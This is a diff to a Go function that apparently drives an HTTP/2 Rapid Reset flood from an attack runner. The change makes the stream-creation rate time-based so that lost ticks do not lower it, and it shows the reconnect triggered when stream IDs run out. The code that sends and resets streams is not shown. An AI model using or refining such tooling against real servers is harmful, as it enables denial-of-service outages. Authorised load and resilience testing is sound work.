@@ -126,8 +126,10 @@ func (r *runner) rapidResetConn(ctx context.Context, a Attack, src netip.Addr) b
 		scheme = "https"
 	}
 	streamID := uint32(1)
-	perBatch := a.Rate * rapidResetBatch.Seconds()
+	// Credit accrues with the time elapsed, so ticks lost to a busy
+	// machine do not lower the rate; it is capped at one second's worth.
 	var credit float64
+	last := time.Now()
 	t := time.NewTicker(rapidResetBatch)
 	defer t.Stop()
 	for {
@@ -135,9 +137,10 @@ func (r *runner) rapidResetConn(ctx context.Context, a Attack, src netip.Addr) b
 		case <-connCtx.Done():
 			<-readerDone
 			return true
-		case <-t.C:
+		case now := <-t.C:
+			credit = min(credit+a.Rate*now.Sub(last).Seconds(), max(a.Rate, 1))
+			last = now
 		}
-		credit += perBatch
 		for ; credit >= 1; credit-- {
 			if streamID > 1<<31-2 {
 				return true // stream ids exhausted: reconnect
